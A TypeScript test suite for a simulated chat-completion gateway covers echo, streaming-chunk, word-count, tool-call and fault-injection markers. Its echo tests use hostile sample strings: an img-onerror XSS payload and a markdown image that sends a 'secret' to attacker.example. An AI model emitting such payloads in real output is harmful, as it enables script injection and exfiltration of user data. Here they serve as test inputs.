import * as assert from 'node:assert/strict';
import { callMarkers } from '../markers';
import { parseFaultMarker } from '../faults';
import { splitIntoChunks, splitRandomly } from '../chat-stream';
import { chat, contentChunks, readStream, useGateway, user } from './helpers';

async function answer(gw: Parameters<typeof chat>[0], text: string): Promise<string> {
  const body = (await (await chat(gw, { stream: false, messages: [user(text)] })).json()) as any;
  return body.choices[0].message.content;
}

describe('gateway simulator: answer markers', function () {
  // Generous: the machine may be busy; no test asserts on timing.
  this.timeout(30_000);
  const ctx = useGateway();

  it('[[echo]] answers the message verbatim without the marker', async () => {
    const hostile = '[[echo]]\n# Title\n\n<img src=x onerror=alert(1)>\n\n![](https://attacker.example/?q=secret)\n\n```js\nalert(1)\n```';
    assert.equal(await answer(ctx.gw, hostile), hostile.slice('[[echo]]\n'.length));
    assert.equal(await answer(ctx.gw, 'before [[echo]] after'), 'before after');
  });

  it('[[echo]] streams the text in pieces that join back exactly, multi-byte characters included', async () => {
    const text = 'Ünïcödé → 🚀🚀 and  double  spaces\n\n  indented\n';
    const s = await readStream(await chat(ctx.gw, { messages: [user(`[[echo]]${text}`)] }));
    assert.equal(s.text, text);
    assert.ok(contentChunks(s).length > 3);
  });

  it('[[chunks:SEED]] with [[echo]] streams the text verbatim in seeded random pieces', async () => {
    const text = '<img src=x onerror=alert(1)> Ünïcödé → 🚀🚀\n\n**bold** `code`\n'.repeat(4);
    const a = await readStream(await chat(ctx.gw, { messages: [user(`[[echo]][[chunks:7]]\n${text}`)] }));
    assert.equal(a.text, text);
    const b = await readStream(await chat(ctx.gw, { messages: [user(`[[echo]][[chunks:7]]\n${text}`)] }));
    const c = await readStream(await chat(ctx.gw, { messages: [user(`[[echo]][[chunks:8]]\n${text}`)] }));
    assert.deepEqual(contentChunks(a), contentChunks(b), 'same seed, same pieces');
    assert.notDeepEqual(contentChunks(a), contentChunks(c), 'another seed, other pieces');
    assert.notDeepEqual(contentChunks(a), splitIntoChunks(text), 'not the word chunking');
    for (const seed of [1, 2, 3]) {
      const pieces = splitRandomly(text, seed);
      assert.equal(pieces.join(''), text);
      assert.ok(pieces.every((p) => Array.from(p).length >= 1 && Array.from(p).length <= 24));
      assert.ok(
        pieces.every((p) => !/[\ud800-\udbff]$/.test(p)),
        'no piece ends inside a surrogate pair',
      );
    }
  });

  it('[[chunks:SEED:MAX]] streams in pieces of 1-MAX characters; MAX below 24 is taken as 24', async () => {
    const text = 'word '.repeat(2000);
    const a = await readStream(await chat(ctx.gw, { messages: [user(`[[echo]][[chunks:7:200]]\n${text}`)] }));
    assert.equal(a.text, text);
    const pieces = contentChunks(a);
    assert.ok(pieces.every((p) => p.length >= 1 && p.length <= 200));
    assert.ok(
      pieces.some((p) => p.length > 24),
      'some pieces are longer than 24',
    );
    assert.ok(pieces.length < text.length / 50, `${pieces.length} pieces for ${text.length} characters`);
    const small = await readStream(await chat(ctx.gw, { messages: [user(`[[echo]][[chunks:7:3]]\n${text}`)] }));
    assert.deepEqual(contentChunks(small), splitRandomly(text, 7, 24));
  });

  it('[[words:N]] answers exactly N words', async () => {
    for (const n of [1, 7, 250]) {
      const text = await answer(ctx.gw, `[[words:${n}]]`);
      assert.equal(text.split(/\s+/).filter(Boolean).length, n);
    }
  });

  it('[[long:N]] answers N deterministic blocks of paragraphs and code', async () => {
    const text = await answer(ctx.gw, '[[long:30]]');
    assert.equal(text, await answer(ctx.gw, '[[long:30]]'));
    const blocks = text.split(/\n\n(?=Paragraph|```)/);
    assert.equal(blocks.length, 30);
    assert.equal(blocks.filter((b) => b.startsWith('```')).length, 10);
  });

  it('parses call markers, balanced JSON, and verbatim non-JSON arguments', () => {
    assert.deepEqual(callMarkers('x [[call:read_file {"path":"a]]b","n":{"m":1}}]] y [[call:list]] [[call:bad {oops]]'), [
      { name: 'read_file', arguments: '{"path":"a]]b","n":{"m":1}}' },
      { name: 'list', arguments: '{}' },
      { name: 'bad', arguments: '{oops' },
    ]);
  });

  it('parses fault markers', () => {
    assert.deepEqual(parseFaultMarker('a [[fault:drop:3]] b'), { kind: 'drop', afterChunks: 3 });
    assert.deepEqual(parseFaultMarker('[[fault:stall]]'), { kind: 'stall' });
    assert.deepEqual(parseFaultMarker('[[fault:stall:250]]'), { kind: 'stall', ms: 250 });
    assert.deepEqual(parseFaultMarker('[[fault:stallAfter:2]]'), { kind: 'stallAfter', afterChunks: 2 });
    assert.deepEqual(parseFaultMarker('[[fault:stallAfter:2:100]]'), { kind: 'stallAfter', afterChunks: 2, ms: 100 });
    assert.deepEqual(parseFaultMarker('[[fault:html502]]'), { kind: 'html502' });
    assert.deepEqual(parseFaultMarker('[[fault:empty:503]]'), { kind: 'empty', status: 503 });
    assert.deepEqual(parseFaultMarker('[[fault:malformed:2]]'), { kind: 'malformed', afterChunks: 2 });
    assert.deepEqual(parseFaultMarker('[[fault:streamError:1]]'), { kind: 'streamError', afterChunks: 1 });
    assert.deepEqual(parseFaultMarker('[[fault:streamError:1:upstream: boom]]'), { kind: 'streamError', afterChunks: 1, message: 'upstream: boom' });
    assert.deepEqual(parseFaultMarker('[[fault:drip:20]]'), { kind: 'drip', delayMs: 20 });
    assert.deepEqual(parseFaultMarker('[[fault:rateLimit:2]]'), { kind: 'rateLimit', retryAfter: '2' });
    assert.deepEqual(parseFaultMarker('[[fault:rateLimit:Wed, 21 Oct 2015 07:28:00 GMT]]'), { kind: 'rateLimit', retryAfter: 'Wed, 21 Oct 2015 07:28:00 GMT' });
    assert.deepEqual(parseFaultMarker('[[fault:status:418]]'), { kind: 'status', status: 418 });
    assert.equal(parseFaultMarker('[[fault:nonsense]]'), undefined);
    assert.equal(parseFaultMarker('no marker'), undefined);
  });

  it('splits text into chunks of a few words that join back exactly', () => {
    for (const text of ['', ' ', 'one', '  lead and trail  ', 'a\n\nb c d e f g h i j k', '```ts\nconst x = 1;\n```\n']) {
      const chunks = splitIntoChunks(text);
      assert.equal(chunks.join(''), text);
      assert.ok(chunks.every((c) => c.trim().split(/\s+/).length <= 4));
    }
  });
});
